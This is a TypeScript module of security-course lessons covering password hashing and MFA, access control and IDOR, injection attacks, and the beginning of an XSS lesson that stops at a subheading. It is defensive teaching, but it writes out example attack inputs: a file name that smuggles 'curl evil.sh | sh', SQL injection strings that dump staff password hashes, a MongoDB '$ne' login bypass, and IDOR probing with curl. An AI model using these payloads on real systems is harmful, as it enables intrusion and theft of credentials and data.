import type { ModuleContent } from '../content-types.js';

/** Security roadmap lessons (issue 29). Keys are stable: never rename or reuse them. */
export const SECURITY_IDENTITY_WEB_MODULES: ModuleContent[] = [
  {
    key: 'passwords-and-mfa',
    title: 'Passwords and Multi-Factor Authentication',
    summary:
      'Store passwords so a stolen database stays useless, set the password rules NIST actually asks for, slow down guessing, and add MFA that resists phishing.',
    estimatedMinutes: 180,
    reviewedOn: '2026-11',
    contentMd: `### What you are defending against
The sign-in form is attacked in two very different ways. **Online attacks** happen against your live server: an attacker tries leaked username and password pairs from other sites (*credential stuffing*), sprays a few common passwords across thousands of accounts (*password spraying*), or guesses one account's password again and again. **Offline attacks** happen after your user table has been stolen, through SQL injection, a leaked backup or a misconfigured bucket. Then nobody rate-limits the attacker: they guess on their own graphics cards as fast as the hash function allows. Good password storage is about the offline case, good rate limiting and MFA are about the online case, and you need both.

### Slow, salted hashes: Argon2id, scrypt, bcrypt
You already know the rule from the authentication lesson: store a hash, never the password. The deeper question is *which* hash. SHA-256 is a fine general-purpose hash, and that is the problem: it was designed to be fast, so a single modern GPU computes billions of SHA-256 hashes per second, and every common password in a stolen table falls within minutes. A password hashing function is designed to be slow and tunable:

- **Argon2id** is the first choice in the [OWASP Password Storage Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Password_Storage_Cheat_Sheet.html). It is *memory-hard*: each guess needs its own block of memory, which makes GPUs and custom chips far less efficient. OWASP's minimum is 19 MiB of memory, 2 iterations and a parallelism of 1.
- **scrypt** is the fallback when Argon2id is not available, also memory-hard; OWASP's minimum is N=2^17, r=8, p=1.
- **bcrypt** is acceptable for existing systems, with a work factor of at least 10. It only reads the first 72 bytes of the input, so cap password length at 72 bytes or pre-hash with a keyed HMAC as OWASP describes.
- **PBKDF2** with HMAC-SHA-256 and at least 600,000 iterations is the choice when a FIPS-140 validated algorithm is required.

Each of these takes a random **salt** per password, stored next to the hash, so equal passwords get different hashes and one precomputed table cannot crack them all. Store the algorithm and cost parameters with each hash too (the common \`$argon2id$v=19$m=...\` string does this). Then you can raise the cost later: when a user signs in with a hash made at the old cost, verify it, then re-hash the password with the new cost.

### Peppers
A **pepper** is a second secret mixed into every hash. Unlike the salt, it is shared by all passwords and is **not** stored in the database: it lives in a secret manager or a hardware security module. If an attacker steals only the database (the typical SQL injection case), they cannot test a single guess without the pepper. OWASP calls it defence in depth: it helps only as long as the pepper stays secret, and rotating it means every user must set a new password, because you cannot re-hash a password you do not know.

### The password rules NIST actually asks for
Many companies still enforce rules from the 1980s. The current US guidance, [NIST SP 800-63B-4](https://pages.nist.gov/800-63-4/sp800-63b.html) (final since 2025), says the opposite of what most people were taught:

- **Length is what counts**: at least 15 characters when the password is the only factor, at least 8 when it is part of multi-factor authentication; allow at least 64 characters, spaces and Unicode, and never truncate.
- **No composition rules**: do not demand "one upper case, one digit, one symbol". Users respond with \`Password1!\`, which every cracking tool tries early.
- **No periodic rotation**: do not force a change every 90 days; force one only when there is evidence of compromise.
- **Check a blocklist** when a password is set or changed: breached passwords, dictionary words, repeats like \`aaaaaa\`, and the service's own name. Explain why a password was refused.
- **Allow password managers and paste**, and offer a "show password" option.
- **No hints and no security questions** such as "your first pet".

### Rate limiting and lockout
Online guessing has to be slowed on the server. NIST requires a limit of no more than 100 consecutive failed attempts per account, and suggests ways to make that limit gentle for the real user: growing delays, bot challenges, remembering devices that signed in before. A hard lockout after 5 failures sounds safe but lets anyone lock out any user they can name, and it does little against spraying, which tries one password per account. Count failures per account *and* per source address, add delays rather than permanent locks, alert on spikes, and answer "wrong email or password" whatever the cause, so the form does not reveal which accounts exist.

### Multi-factor authentication
MFA asks for factors of different kinds: something you know (a password), something you have (a phone, a security key) and something you are (a fingerprint that unlocks a device). The common kinds differ a lot:

- **SMS codes** are better than nothing, but SIM swapping and message interception make NIST treat them as a *restricted* authenticator.
- **TOTP** (an authenticator app, [RFC 6238](https://datatracker.ietf.org/doc/html/rfc6238)) derives a 6-digit code from a shared secret and the current 30-second time window. The server must reject a code that was already used and accept at most a small clock drift.
- **Push approval** sends "Is this you?" to a phone. Attackers who know the password send prompt after prompt until a tired user taps Approve (*MFA fatigue*); number matching, where the user types the number shown on the sign-in screen, reduces this.
- **WebAuthn**, used by security keys and **passkeys**, signs a challenge with a private key that never leaves the device.

### Phishing resistance and passkeys
A fake sign-in page can relay a password, a TOTP code or a push approval to the real site in real time: the user typed or approved it, so the attacker gets in. NIST states plainly that anything the user copies by hand, such as a one-time code, is not phishing resistant. WebAuthn is different because the browser, not the user, tells the authenticator which site is asking. A credential made for \`example.com\` is bound to that domain, and the signed response includes the origin, so on \`examp1e.com\` the key simply does not work. The server stores only a public key, so a stolen database holds nothing that lets anyone sign in. **Passkeys** are WebAuthn credentials the user unlocks with a fingerprint, face or PIN; they can be synced by the platform's password manager or stay on one device such as a hardware key.

### Recovery codes and account recovery
Every MFA method gets lost: phones break, keys are dropped. **Recovery codes** are a short list of random, single-use codes shown once when MFA is set up. Store them like passwords, as hashes, mark each as used after a successful sign-in, and rate-limit attempts. Recovery is simply another way in, so it must not be weaker than normal sign-in: a recovery flow that sends a reset link by email to bypass MFA turns the email account into the real second factor. Notify the user by another channel whenever a factor is added, removed or used for recovery.

### Worked example
A team moves its Node.js 24 service from SHA-256 hashes to Argon2id with a pepper, using the \`crypto.argon2\` function built into Node 24.7 and later. The stored string carries its own salt and costs, so old and new hashes can live side by side.

\`\`\`js
import { argon2, randomBytes, timingSafeEqual } from 'node:crypto';
import { promisify } from 'node:util';

const argon2id = promisify(argon2);
const PEPPER = Buffer.from(process.env.PASSWORD_PEPPER, 'base64'); // from the secret manager
const COST = { memory: 19456, passes: 2, parallelism: 1 };        // OWASP minimum: 19 MiB, t=2, p=1
const b64 = (buf) => buf.toString('base64').replace(/=+$/, '');

export async function hashPassword(password) {
  const salt = randomBytes(16);
  const tag = await argon2id('argon2id', { ...COST, message: password, nonce: salt, tagLength: 32, secret: PEPPER });
  return \`$argon2id$v=19$m=\${COST.memory},t=\${COST.passes},p=\${COST.parallelism}$\${b64(salt)}$\${b64(tag)}\`;
}

export async function verifyPassword(password, stored) {
  const [, , , costs, salt, hash] = stored.split('$');
  const { m, t, p } = Object.fromEntries(costs.split(',').map((kv) => kv.split('=')));
  const expected = Buffer.from(hash, 'base64');
  const actual = await argon2id('argon2id', {
    message: password, nonce: Buffer.from(salt, 'base64'), secret: PEPPER,
    memory: Number(m), passes: Number(t), parallelism: Number(p), tagLength: expected.length,
  });
  return timingSafeEqual(actual, expected); // compares in constant time
}
\`\`\`

A stored value looks like \`$argon2id$v=19$m=19456,t=2,p=1$ZOtyLpCGJQJZ59bmCKv8iA$win4im52...\`. For the old SHA-256 rows, the sign-in handler checks the old way once, and on success immediately stores \`hashPassword(password)\` and deletes the old hash. When a password is set, the service also asks the Pwned Passwords range API whether it appeared in a breach, sending only the first five characters of its SHA-1 (the *k-anonymity* model), and refuses it with a clear message:

\`\`\`js
import { createHash } from 'node:crypto';

export async function timesBreached(password) {
  const sha1 = createHash('sha1').update(password).digest('hex').toUpperCase();
  const res = await fetch(\`https://api.pwnedpasswords.com/range/\${sha1.slice(0, 5)}\`);
  const line = (await res.text()).split('\\n').find((l) => l.startsWith(sha1.slice(5)));
  return line ? Number(line.split(':')[1]) : 0; // e.g. 'password' → millions
}
\`\`\`

SHA-1 is fine here because it only forms a lookup key for a public list; it is never how the password is stored.

### Common mistakes
- **Fast hashes, even salted ones.** \`sha256(salt + password)\` stops rainbow tables but not a GPU. Use Argon2id, scrypt, bcrypt or PBKDF2 with the costs above.
- **Forcing rotation and symbols.** They produce \`Spring2026!\` followed by \`Summer2026!\`. Require length, check a blocklist, allow password managers.
- **Checking MFA only in the UI.** If the API issues a full session after the password step, an attacker skips the code page. Mark the session "password verified, MFA pending" and let it reach only the MFA endpoint.
- **Hard lockout as the only brake.** It lets attackers lock out your users and does not stop spraying. Use growing delays, per-account and per-address limits and monitoring.
- **A recovery path weaker than sign-in.** Security questions or an SMS reset that bypasses a passkey undo the passkey. Recovery codes, a second registered key or a support process with identity checks are safer.
- **Comparing secrets with \`===\`.** Use a constant-time comparison such as \`crypto.timingSafeEqual\` for hashes and codes.

### At work
Most teams do not write this code from scratch: they use an identity provider (Auth0, Okta, Microsoft Entra ID, Keycloak, Amazon Cognito) or a framework's auth library, and the security engineer's job is to configure and review it. Typical tasks for a junior: check which algorithm and cost the user table really uses and plan the migration, review the password policy against NIST SP 800-63B-4 and remove rotation and composition rules, turn on breached-password checks, add rate limits and alerts for credential stuffing, and roll out passkeys and phishing-resistant MFA for administrators first. Expect to write the runbook for "a user lost their phone" too: that support process is part of your authentication system.`,
    resources: [
      {
        title: 'OWASP Multifactor Authentication Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/Multifactor_Authentication_Cheat_Sheet.html',
        kind: 'docs',
      },
      {
        title: 'OWASP Credential Stuffing Prevention Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/Credential_Stuffing_Prevention_Cheat_Sheet.html',
        kind: 'docs',
      },
      { title: 'passkeys.dev: passkeys for developers', url: 'https://passkeys.dev/', kind: 'docs' },
      {
        title: 'PortSwigger Web Security Academy: Authentication vulnerabilities (labs)',
        url: 'https://portswigger.net/web-security/authentication',
        kind: 'interactive',
      },
    ],
  },
  {
    key: 'access-control',
    title: 'Access Control',
    summary:
      'Decide on the server, for every request and every object, what a signed-in user may do: RBAC, ABAC and ReBAC, deny by default, and the IDOR bugs that top the OWASP Top 10.',
    estimatedMinutes: 150,
    reviewedOn: '2026-11',
    contentMd: `### Who you are versus what you may do
Authentication proves who is making a request; **authorization** decides whether that person may perform this action on this particular thing. They fail separately. A perfectly implemented passkey sign-in tells you that the request comes from Alice; it says nothing about whether Alice may read invoice 1043, change another user's email address or open the admin panel. Most serious access control bugs happen to signed-in users: the attacker has a normal account and simply asks for things that are not theirs.

An authorization decision always has the same parts: a **subject** (the user or service calling), an **action** (read, update, refund, delete), a **resource** (this invoice, this project) and sometimes **context** (time, network, how recently the user signed in with MFA). Writing them down explicitly is the first step to getting them right.

### Models: RBAC, ABAC and ReBAC
- **Role-based access control (RBAC)** gives permissions to roles and roles to users: an \`accountant\` may issue refunds, a \`viewer\` may only read. It is easy to explain and audit, but roles alone cannot express "only the invoices of your own company" or "only documents you created". Teams that try end up with *role explosion*: \`accountant-eu-team-3\`, \`accountant-eu-team-4\`, and so on.
- **Attribute-based access control (ABAC)** decides from attributes of the subject, the resource and the context: "an accountant may refund an invoice if the invoice's company is the user's company and the amount is below the user's refund limit". It expresses fine-grained rules directly.
- **Relationship-based access control (ReBAC)** decides from relationships in a graph: Alice is an *editor* of folder X, folder X *contains* document Y, so Alice can edit Y. Google Docs-style sharing and social networks need this; Google's Zanzibar paper and open-source systems such as OpenFGA and SpiceDB implement it.

The [OWASP Authorization Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Authorization_Cheat_Sheet.html) recommends preferring ABAC and ReBAC over pure RBAC for applications. In practice most systems combine them: roles say what kind of user you are, attributes and relationships say which objects you may touch.

### Deny by default
Every request should be refused unless a rule explicitly allows it. That sounds obvious, but many code bases do the reverse: routes are open unless someone remembered to add a \`requireAdmin\` middleware, so every new endpoint is public until proven otherwise. Deny by default means a new route without a rule fails closed, an unknown role gets nothing, an exception in the permission check ends in a refusal rather than in the handler running anyway, and a missing field (no \`tenantId\` on the token) is treated as "no access", not as "no restriction". It is also the principle of **least privilege** applied to code: give each user, service account and API key the smallest set of permissions that lets it do its job.

### Check the object, not just the route
The most common access control bug has two names. Web testers call it an **insecure direct object reference (IDOR)**; the [OWASP API Security Top 10](https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/) calls it **broken object level authorization (BOLA)** and ranks it first. The API takes an identifier from the client (\`/api/invoices/1043\`, a \`user_id\` in a JSON body, a file name) and loads that object without checking that the caller may have it. Checking "is the user signed in?" or "is the user an accountant?" at the route is not enough: you must check the relationship between this user and this object, on every endpoint that takes an id, for reads and writes alike.

Unguessable ids such as UUIDs make enumeration harder, but they are not a control: ids leak through URLs, logs, emails and shared links. The check still has to run. A close cousin is **broken object property level authorization**: the user may edit their profile but not its \`role\` or \`isVerified\` fields, so the server must only accept an allowlist of properties (a *mass assignment* bug otherwise), and must not return fields such as \`passwordHash\` that the caller should not see.

### Vertical and horizontal escalation
- **Horizontal privilege escalation**: a user reaches data or actions of *another user at the same level*. Customer Alice reads customer Bob's orders. IDOR is the classic cause.
- **Vertical privilege escalation**: a user gains *higher* privileges. A customer calls \`DELETE /api/admin/users/7\`, or sends \`"role": "admin"\` in a profile update, or flips \`isAdmin=false\` to \`true\` in a cookie the server trusts. The OWASP API list calls missing checks on privileged functions **broken function level authorization**.

In multi-tenant software there is a third direction worth naming: crossing **tenant** boundaries, where one customer company reaches another company's data. It is horizontal escalation with the biggest blast radius, which is why tenant scoping belongs in every query.

### Enforce it on the server, in one place
Anything in the browser or the mobile app is under the attacker's control: hidden buttons, disabled fields, client-side route guards and the role stored in \`localStorage\` can all be changed, and the API can be called directly with \`curl\`. UI checks are for usability; the decision belongs on the server (OWASP: trusted server-side code "where the attacker cannot modify the access control check or metadata").

Put the decision in **one reusable place**, a policy module, middleware or an external policy engine such as Open Policy Agent or Cedar, rather than scattering \`if (user.role === 'admin')\` across handlers. A central policy is easier to review, to test and to change; scattered checks are forgotten on the one endpoint that matters. Log denials, alert on bursts of them (someone is walking through ids), and write tests that use two users and a different tenant.

### Broken access control in the OWASP Top 10
[Broken Access Control is A01 in the OWASP Top 10:2025](https://owasp.org/Top10/2025/A01_2025-Broken_Access_Control/), as it was in 2021: in OWASP's data, every application tested had some form of it. The category maps 40 weaknesses (CWEs), among them CWE-639 (authorization bypass through a user-controlled key, the IDOR), CWE-862 missing authorization, CWE-425 forced browsing, path traversal, CSRF and, since 2025, server-side request forgery. OWASP's prevention list matches this lesson: deny by default, implement access control once and reuse it, enforce record ownership, log failures, keep JWTs short-lived, and test access control in unit and integration tests.

### Worked example
A multi-tenant invoicing API in Express. A penetration tester signs in as Alice (company 1) and walks the invoice ids:

\`\`\`shell
$ curl -s -o /dev/null -w '%{http_code}\\n' -b 'sid=alice' https://app.example.com/api/invoices/1042
200        # Alice's own invoice
$ curl -s -b 'sid=alice' https://app.example.com/api/invoices/1043
{"id":1043,"tenantId":2,"customer":"Globex","amount":18400, ...}   # another company's invoice
\`\`\`

The handler authenticated the user but loaded any invoice by id:

\`\`\`js
// Vulnerable: signed in is all it checks
app.get('/api/invoices/:id', requireLogin, async (req, res) => {
  const invoice = await db.invoice.findUnique({ where: { id: Number(req.params.id) } });
  if (!invoice) return res.sendStatus(404);
  res.json(invoice);
});
\`\`\`

The fix scopes the query to the caller's tenant and asks one policy module, which denies anything it has no rule for:

\`\`\`js
// policy.js: the only place that decides
const rules = {
  'invoice:read': (user, inv) =>
    inv.tenantId === user.tenantId && (user.roles.includes('accountant') || inv.customerId === user.customerId),
  'invoice:refund': (user, inv) =>
    inv.tenantId === user.tenantId && user.roles.includes('accountant') && inv.amount <= user.refundLimit,
};
export function can(user, action, resource) {
  const rule = rules[action];
  if (!rule || !user?.tenantId) return false; // unknown action or incomplete user: deny
  try { return rule(user, resource) === true; } catch { return false; } // errors fail closed
}

// routes.js
app.get('/api/invoices/:id', requireLogin, async (req, res) => {
  const invoice = await db.invoice.findFirst({
    where: { id: Number(req.params.id), tenantId: req.user.tenantId }, // tenant scoping in the query
  });
  if (!invoice || !can(req.user, 'invoice:read', invoice)) return res.sendStatus(404);
  res.json(invoice);
});
\`\`\`

Answering 404 rather than 403 for other people's objects does not even confirm that invoice 1043 exists. The team then adds an integration test that signs in as users of two tenants and asserts that each gets 404 for the other's invoices, on every endpoint that takes an id, and a denial log that alerts when one session hits dozens of 404s on invoice ids.

### Common mistakes
- **Checking the role but not the object.** \`requireRole('accountant')\` on the route still lets an accountant of company 1 read company 2's invoices. Check ownership or tenant for each object.
- **Trusting ids and roles the client sends.** A \`userId\` in the body, a \`role\` claim the client can edit, or an \`isAdmin\` cookie must never decide access. Take identity from the server-side session or a verified token.
- **Protecting the UI only.** Hiding the admin menu stops nobody; the API endpoint needs its own check.
- **Failing open.** \`catch (e) { next() }\` in an authorization middleware, or "no rule found means allowed", turns every bug into a bypass. Deny on error and on unknown.
- **Binding whole request bodies to models.** \`User.update(req.body)\` lets users set \`role\`. Accept an explicit allowlist of fields.
- **Relying on UUIDs instead of checks.** Hard-to-guess ids reduce enumeration, nothing more.

### At work
Application security engineers find these bugs in code review and testing, because scanners rarely can: a scanner does not know that invoice 1043 is not Alice's. A common routine is to test with two accounts per role and per tenant, swapping ids and session cookies between them, often with Burp Suite extensions such as Autorize that replay every request with a lower-privileged session. Juniors are asked to build an access matrix (roles × actions × resources) for a feature, review pull requests for endpoints that take ids without a policy call, write the two-user integration tests, and check that admin functions are reachable only by admins. On larger teams you may help move scattered \`if\` checks into a policy engine such as OPA or Cedar, or model sharing in OpenFGA.`,
    resources: [
      {
        title: 'OWASP Insecure Direct Object Reference Prevention Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/Insecure_Direct_Object_Reference_Prevention_Cheat_Sheet.html',
        kind: 'docs',
      },
      {
        title: 'OWASP Web Security Testing Guide: Authorization Testing',
        url: 'https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/05-Authorization_Testing/README',
        kind: 'docs',
      },
      {
        title: 'PortSwigger Web Security Academy: Access control vulnerabilities (labs)',
        url: 'https://portswigger.net/web-security/access-control',
        kind: 'interactive',
      },
    ],
  },
  {
    key: 'injection-attacks',
    title: 'Injection Attacks',
    summary:
      'See how SQL, command, NoSQL and LDAP injection turn input into code, and stop them with parameterized queries, argument arrays, allowlists and least-privileged database users.',
    estimatedMinutes: 180,
    reviewedOn: '2026-11',
    contentMd: `### What injection is
An injection bug happens whenever a program builds a piece of *code* for another interpreter (an SQL query, a shell command, a MongoDB filter, an LDAP search, an HTML page) by gluing untrusted text into it. The interpreter cannot tell which characters the developer wrote and which ones came from the user, so a quote, a semicolon or a \`$\` in the input can end the data and start new instructions. The root cause is always the same: **data and code travel in the same string**. The fixes all follow from it: send data through a channel the interpreter never executes (parameters, argument arrays), or, where that is impossible, restrict the input to a known list of values. Injection is A05 in the [OWASP Top 10:2025](https://owasp.org/Top10/2025/A05_2025-Injection/), and in MITRE's 2025 CWE Top 25 of the most dangerous software weaknesses, SQL injection (CWE-89) ranks second, just behind cross-site scripting.

### SQL injection
Take a login query built with string concatenation, \`"SELECT * FROM users WHERE email = '" + email + "'"\`. An attacker who types \`' OR '1'='1' --\` as the email turns it into \`SELECT * FROM users WHERE email = '' OR '1'='1' --'\`: the \`WHERE\` clause is always true and \`--\` comments out the rest. Depending on the query and the database, the same trick can read other tables with \`UNION SELECT\`, extract data one bit at a time from differences in responses or timing (*blind* SQL injection), change or delete rows, and on a badly configured server even run operating system commands.

The defence is the **parameterized query** (prepared statement): the SQL text with placeholders is sent separately from the values, and the database treats the values as data whatever characters they contain. Every mainstream driver supports it: \`$1, $2\` in node-postgres, \`?\` in mysql2 and Python's \`sqlite3\`, \`%s\` or \`%(name)s\` in psycopg. Escaping quotes by hand is strongly discouraged by the [OWASP SQL Injection Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html): it is easy to get wrong for one character set, one database or one context.

Placeholders only work for *values*. Table names, column names and sort directions cannot be parameters, so map user choices to a fixed allowlist in code: \`const column = { name: 'name', date: 'created_at' }[req.query.sort] ?? 'created_at'\`.

### ORMs and their raw-query escape hatches
ORMs and query builders (Prisma, Sequelize, Knex, Django ORM, SQLAlchemy) parameterize the queries they generate, which removes most SQL injection. The danger lies in their raw-SQL features, which every one of them has:

- Prisma's \`$queryRaw\` is a tagged template that turns \`\${value}\` into a parameter; \`$queryRawUnsafe\` takes a plain string, so building that string with \`+\` or a normal template literal reintroduces injection.
- Sequelize's \`sequelize.query()\` is safe with \`replacements\` or \`bind\`, unsafe with an interpolated string.
- Django's \`.raw()\` and \`cursor.execute()\` are safe when values go in the \`params\` argument, unsafe with an f-string or \`%\` formatting of the SQL itself; SQLAlchemy's \`text()\` is safe with \`:name\` bind parameters.

The rule in code review is simple: any raw-SQL call whose first argument is built from variables is a finding until proven otherwise.

### Command injection
Calling a shell with user input is the same mistake one level lower. In Node.js, \`\`exec(\`convert \${file} out.png\`)\`\` runs \`/bin/sh -c\`, so a file name like \`a.png; curl evil.sh | sh\` runs two commands. In Python, \`subprocess.run(f"ping -c 1 {host}", shell=True)\` has the same problem; the [Python documentation](https://docs.python.org/3/library/subprocess.html) warns that with \`shell=True\` it is the application's job to quote everything correctly.

OWASP's first defence is to **avoid the OS command**: use a library (an image library instead of \`convert\`, a DNS library instead of \`nslookup\`). If you must run a program, pass an **argument array without a shell**: \`execFile('ping', ['-c', '1', host])\` in Node, \`subprocess.run(['ping', '-c', '1', host])\` in Python. Then \`;\`, \`|\` and \`$( )\` are just characters in one argument. Two traps remain. *Argument injection*: a value starting with \`-\` can still be read as an option (\`--output=/etc/cron.d/x\`), so validate the value and put \`--\` before positional arguments where the program supports it. And \`shell: true\` in Node's \`spawn\` options brings the shell back.

### NoSQL and LDAP injection
Non-SQL interpreters have their own syntax to inject into:

- **MongoDB operator injection.** \`users.findOne({ email: req.body.email, password: req.body.password })\` looks harmless, but a JSON body can contain objects: \`{"email": "admin@example.com", "password": {"$ne": null}}\` matches any password. Check that each field is a string before it reaches the query (a schema validator such as Zod or Joi does this), or turn on Mongoose's \`sanitizeFilter\` option. Never pass user input to \`$where\`, which runs JavaScript.
- **LDAP injection.** A filter built as \`(&(uid=\${user})(objectClass=person))\` lets \`*\` match everyone and \`)(\` add new conditions. Escape the special characters \`*\`, \`(\`, \`)\`, \`\\\` and NUL as RFC 4515 defines (for example \`*\` becomes \`\\2a\`), or use the library's filter builder.

### Input validation versus output encoding
These two are often confused, and you need both. **Input validation** checks at the entry point that data has the expected type, length, format and range: an order quantity is an integer from 1 to 100, a country code is one of a known list. It rejects garbage early and shrinks what attackers can send, but it cannot be the injection defence on its own, because valid data can contain dangerous characters: \`O'Brien\` is a real surname and must be accepted.

**Output encoding** (and its stronger forms, parameterization and argument arrays) happens at the **sink**, where data enters an interpreter, and is specific to that interpreter: SQL parameters for the database, an argument array for processes, HTML encoding for a page, RFC 4515 escaping for LDAP. Validate on the way in, keep data separate from code on the way out. Prefer **allowlists** (what is allowed) to denylists (what is forbidden): attackers are better at finding the character you forgot than you are at listing them.

### Least privilege for the database
Assume an injection bug will one day slip through, and limit what it can reach. The application should connect as a dedicated database user that owns nothing and can only do what the application needs: \`SELECT\`, \`INSERT\`, \`UPDATE\` on its own tables, read-only for reporting jobs, no \`DROP\`, no \`CREATE\`, and certainly not a superuser. In PostgreSQL a superuser (or a member of \`pg_execute_server_program\`) can run shell commands with \`COPY ... FROM PROGRAM\`, which turns SQL injection into full server compromise. Separate users for separate services also keep one service's bug from exposing another's data, and database views can hide columns, such as password hashes, that a service never needs.

### Worked example
A Python support tool lets staff search customers. The original code, run against a small SQLite copy of the data:

\`\`\`python
import sqlite3

db = sqlite3.connect("support.db")

def find_customers(name):
    # Vulnerable: the name becomes part of the SQL text
    query = f"SELECT id, name, email FROM customers WHERE name = '{name}'"
    print(query)
    return db.execute(query).fetchall()

find_customers("Ana")
# SELECT id, name, email FROM customers WHERE name = 'Ana'                  -> 1 row
find_customers("x' OR '1'='1")
# SELECT id, name, email FROM customers WHERE name = 'x' OR '1'='1'         -> every customer
find_customers("x' UNION SELECT id, username, password_hash FROM staff --")
# -> staff password hashes, shown in the customer table
\`\`\`

The fix passes the value as a parameter and keeps the one dynamic part, the sort column, in an allowlist:

\`\`\`python
SORTABLE = {"name": "name", "joined": "created_at"}

def find_customers(name, sort="name"):
    column = SORTABLE.get(sort, "name")                    # identifiers: allowlist
    query = f"SELECT id, name, email FROM customers WHERE name = ? ORDER BY {column}"
    return db.execute(query, (name,)).fetchall()           # values: parameters
\`\`\`

Now \`x' OR '1'='1\` is simply a name nobody has, and zero rows come back. The same service in Node.js with node-postgres:

\`\`\`js
// Vulnerable
await pool.query(\`SELECT id, name, email FROM customers WHERE name = '\${name}'\`);
// Safe: $1 is sent separately from the SQL text
await pool.query('SELECT id, name, email FROM customers WHERE name = $1', [name]);
\`\`\`

Finally the team connects the tool as a role that cannot read the \`staff\` table at all:

\`\`\`sql
CREATE ROLE support_tool LOGIN PASSWORD 'from-the-secret-manager';
GRANT USAGE ON SCHEMA public TO support_tool;
GRANT SELECT (id, name, email, created_at) ON customers TO support_tool;
\`\`\`

Even if a future change reintroduces an injection, the \`UNION SELECT ... FROM staff\` now fails with "permission denied".

### Common mistakes
- **Escaping or stripping quotes yourself.** Filters miss encodings, numeric contexts (\`id = 1 OR 1=1\` needs no quote) and second-order cases. Use parameters.
- **Trusting the ORM everywhere.** One \`$queryRawUnsafe\` or \`.raw()\` with an f-string undoes it. Search the code for raw-query calls.
- **Thinking validation alone is enough.** A free-text field must accept quotes; the sink must keep them harmless.
- **Parameterizing values but concatenating identifiers.** \`ORDER BY \${req.query.sort}\` is injectable. Map to an allowlist.
- **\`shell=True\` or \`exec()\` for convenience.** Use argument arrays, or better, a library.
- **Connecting as the database owner or superuser.** Give each service its own least-privileged role.

### At work
Injection is found with a mix of tools and reading. Static analysis (Semgrep, CodeQL, SonarQube) flags concatenated queries and \`shell=True\`; dynamic scanners and Burp Suite probe running applications; \`sqlmap\` confirms and demonstrates SQL injection during authorized tests. A junior application security engineer typically triages these findings (is the input really user-controlled? is the call parameterized?), writes the fix or the guidance for the developer, adds a test with a malicious payload, and writes a custom Semgrep rule so the same pattern cannot return. Reviewing database grants for each service, and removing superuser connections, is another common first task.`,
    resources: [
      {
        title: 'OWASP Query Parameterization Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html',
        kind: 'docs',
      },
      {
        title: 'OWASP OS Command Injection Defense Cheat Sheet',
        url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
        kind: 'docs',
      },
      {
        title: 'Node.js: Child process (execFile and spawn)',
        url: 'https://nodejs.org/api/child_process.html',
        kind: 'docs',
      },
      {
        title: 'PortSwigger Web Security Academy: SQL injection (labs)',
        url: 'https://portswigger.net/web-security/sql-injection',
        kind: 'interactive',
      },
    ],
  },
  {
    key: 'cross-site-scripting',
    title: 'Cross-Site Scripting (XSS)',
    summary:
      'Find reflected, stored and DOM-based XSS, encode output for its context, use framework escaping without its escape hatches, sanitize HTML with DOMPurify, and add CSP and HttpOnly as backstops.',
    estimatedMinutes: 180,
    reviewedOn: '2026-11',
    contentMd: `### What XSS is and why it is serious
Cross-site scripting (XSS) happens when an attacker gets their own JavaScript to run inside your site's pages, in other users' browsers. It is injection again, with the browser's HTML parser as the interpreter: text that should have been displayed is parsed as markup or script. Because the script runs in your page's origin, it can do everything the user can: read the page, including CSRF tokens and personal data, send requests with the user's cookies, change their email address, show a fake sign-in form, or log keystrokes. The browser's same-origin policy does not help, because from its point of view the script *is* your site. XSS (CWE-79) sits in the Injection category of the OWASP Top 10:2025 and ranks first in MITRE's 2025 CWE Top 25 of the most dangerous software weaknesses.

### Reflected, stored and DOM-based XSS
- **Reflected XSS**: the server copies part of the request into the response. A search page that prints \`You searched for <b>...</b>\` with the raw \`q\` parameter runs whatever script the attacker puts in a link; the victim only has to open the link.
- **Stored XSS**: the payload is saved (a comment, a profile name, a support ticket, a file name) and served to everyone who views it later. It needs no link and often reaches administrators, whose sessions are worth the most.
- **DOM-based XSS**: the bug is entirely in client-side JavaScript. Code reads a **source** the attacker controls, such as \`location.hash\`, \`location.search\` or a \`postMessage\` event, and writes it into a dangerous **sink** such as \`innerHTML\`, \`outerHTML\`, \`document.write\`, \`eval\` or a \`javascript:\` URL. The server may never see the payload (a \`#fragment\` is not even sent to it), so server-side filters and WAFs cannot catch it.

### Contexts and context-aware encoding
The fix for most XSS is **output encoding**: converting characters that have a meaning in the surrounding syntax into a form that is displayed, not executed. The catch is that the right encoding depends on *where* the data goes, its **context**, as the [OWASP XSS Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html) details:

- **HTML body** (\`<p>DATA</p>\`): encode \`&\`, \`<\`, \`>\`, \`"\` and \`'\` as entities (\`&amp;\`, \`&lt;\`, \`&gt;\`, \`&quot;\`, \`&#x27;\`).
- **HTML attribute** (\`<input value="DATA">\`): the same encoding, and always *quote* the attribute; an unquoted attribute can be broken out of with a space.
- **URL** (\`<a href="/search?q=DATA">\`): encode the parameter with \`encodeURIComponent\`, then HTML-encode the attribute. If the *whole URL* comes from a user, check that its scheme is \`https:\` or \`http:\`: HTML encoding leaves \`javascript:alert(1)\` untouched, and clicking it runs the script.
- **JavaScript** (\`<script>var x = 'DATA'</script>\`): HTML encoding does not help inside a script block. Avoid putting untrusted data there at all: write it into a \`data-\` attribute or a JSON block that is read with \`JSON.parse\`, and read it back as data.
- **CSS** and **event handler attributes** (\`onclick="..."\`): treat as dangerous; do not put untrusted data in them.

In the browser, the same idea appears as **safe sinks**: \`textContent\`, \`innerText\`, \`setAttribute\` on non-event attributes, \`value\` and \`document.createTextNode\` treat their input as text, whereas \`innerHTML\` parses it as HTML.

### Auto-escaping frameworks and their escape hatches
